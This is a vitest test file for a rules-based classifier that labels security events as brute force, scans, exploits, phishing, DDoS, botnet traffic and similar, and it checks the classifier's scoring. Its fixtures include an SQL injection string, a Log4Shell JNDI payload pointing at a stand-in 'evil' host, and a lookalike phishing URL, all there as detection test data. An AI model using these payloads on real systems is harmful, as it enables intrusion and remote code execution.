import { describe, expect, it } from 'vitest';

import { RULE_TABLE } from '../../../src/threats/classifier/rule-table.js';
import { RulesClassifier } from '../../../src/threats/classifier/rules.js';
import type { ClassifierInput } from '../../../src/threats/classifier/types.js';

function event(overrides: Partial<ClassifierInput>): ClassifierInput {
  return {
    threatType: 'unknown',
    description: null,
    protocol: null,
    sourcePort: null,
    destinationPort: null,
    severity: 5,
    confidence: 0.8,
    tags: [],
    ...overrides,
  };
}

const rules = new RulesClassifier();

describe('RulesClassifier on typical events', () => {
  const cases: [string, Partial<ClassifierInput>, string][] = [
    [
      'ssh brute force on 22',
      { threatType: 'ssh_bruteforce', destinationPort: 22, protocol: 'tcp' },
      'BRUTEFORCE',
    ],
    [
      'failed passwords described',
      { threatType: 'auth', description: 'Failed password for root from 10.0.0.1', destinationPort: 22 },
      'BRUTEFORCE',
    ],
    ['port scan', { threatType: 'port_scan', destinationPort: 445, protocol: 'tcp' }, 'SCAN'],
    ['nmap signature', { threatType: 'ET SCAN Nmap Scripting Engine User-Agent' }, 'SCAN'],
    [
      'SQL injection text',
      {
        threatType: 'web_attack',
        description: "GET /?id=1' UNION SELECT user,pass FROM users--",
        destinationPort: 80,
      },
      'EXPLOIT',
    ],
    [
      'log4shell',
      { threatType: 'ids', description: '${jndi:ldap://evil/a} in header (CVE-2021-44228)' },
      'EXPLOIT',
    ],
    [
      'phishing URL',
      {
        threatType: 'url_reputation',
        description: 'Phishing URL http://paypa1-login.example/verify',
        tags: ['phishing'],
      },
      'PHISHING',
    ],
    ['DDoS flood', { threatType: 'SYN-Flood', protocol: 'tcp', destinationPort: 443, severity: 9 }, 'DDOS'],
    ['UDP amplification', { threatType: 'ntp amplification', protocol: 'udp', destinationPort: 123 }, 'DDOS'],
    ['spam on 25', { threatType: 'smtp_spam', destinationPort: 25, protocol: 'tcp' }, 'SPAM'],
    ['malware download', { threatType: 'trojan', description: 'Emotet dropper fetched' }, 'MALWARE'],
    ['botnet C2', { threatType: 'botnet_c2', description: 'beacon every 60s' }, 'BOTNET'],
    ['tor exit', { threatType: 'tor_exit_node', destinationPort: 443 }, 'PROXY'],
    [
      'crawler',
      { threatType: 'bad-bot', description: 'aggressive crawler ignoring robots.txt', protocol: 'http' },
      'CRAWLER',
    ],
  ];
  it.each(cases)('%s', (_name, overrides, expected) => {
    const result = rules.classify(event(overrides));
    expect(result.category).toBe(expected);
    expect(result.method).toBe('RULES');
    expect(result.modelVersion).toBeNull();
    expect(result.anomalyScore).toBeNull();
    expect(result.confidence).toBeGreaterThan(0.5);
    expect(result.confidence).toBeLessThanOrEqual(0.99);
  });
});

describe('RulesClassifier scoring', () => {
  it('matches keywords whatever the case and separator', () => {
    for (const threatType of ['Brute Force', 'brute-force', 'BRUTEFORCE', 'rdp_brute_force']) {
      expect(rules.verdict(event({ threatType })).category).toBe('BRUTEFORCE');
    }
  });

  it('matches at word starts only', () => {
    // "rescan" is not "scan", and "boat" does not start with "botnet"
    expect(rules.verdict(event({ threatType: 'rescanned boat' })).category).toBe('OTHER');
  });

  it('gives a signature port alone a weak verdict, and nothing else a weaker OTHER', () => {
    const portOnly = rules.verdict(event({ destinationPort: 3389 }));
    expect(portOnly).toEqual({ category: 'BRUTEFORCE', confidence: 0.35 });
    expect(rules.verdict(event({ destinationPort: 8080 }))).toEqual({ category: 'OTHER', confidence: 0.2 });
  });

  it('trusts the threat type more than the description', () => {
    const typeOnly = rules.verdict(event({ threatType: 'port scan' }));
    const descriptionOnly = rules.verdict(event({ description: 'port scan' }));
    expect(typeOnly.category).toBe('SCAN');
    expect(descriptionOnly.category).toBe('SCAN');
    expect(typeOnly.confidence).toBeGreaterThan(descriptionOnly.confidence);
  });

  it('raises confidence when fields and ports agree', () => {
    const alone = rules.verdict(event({ threatType: 'bruteforce' }));
    const agreed = rules.verdict(
      event({
        threatType: 'bruteforce',
        description: 'failed password',
        destinationPort: 22,
        protocol: 'tcp',
      }),
    );
    expect(agreed.confidence).toBeGreaterThan(alone.confidence);
  });

  it('prefers the type evidence when type and description disagree', () => {
    const result = rules.verdict(event({ threatType: 'sql_injection', description: 'seen during a scan' }));
    expect(result.category).toBe('EXPLOIT');
  });

  it('breaks ties by table order', () => {
    // Both rows match in the threat type at the same confidence: the earlier row wins.
    const table = [
      { category: 'SPAM' as const, confidence: 0.8, keywords: ['alpha'] },
      { category: 'SCAN' as const, confidence: 0.8, keywords: ['beta'] },
    ];
    expect(new RulesClassifier(table).verdict(event({ threatType: 'beta alpha' })).category).toBe('SPAM');
  });

  it('gives the same answer on repeated calls (scratch state is reset)', () => {
    const input = event({ threatType: 'ddos', description: 'flood', protocol: 'udp' });
    const first = rules.verdict(input);
    rules.verdict(event({ threatType: 'spam', destinationPort: 25 }));
    expect(rules.verdict(input)).toEqual(first);
  });

  it('has a well-formed table', () => {
    const signaturePorts = RULE_TABLE.flatMap((row) => row.signaturePorts ?? []);
    expect(new Set(signaturePorts).size).toBe(signaturePorts.length);
    for (const row of RULE_TABLE) {
      expect(row.confidence).toBeGreaterThan(0);
      expect(row.confidence).toBeLessThanOrEqual(0.99);
      expect(row.keywords.length).toBeGreaterThan(0);
    }
  });
});
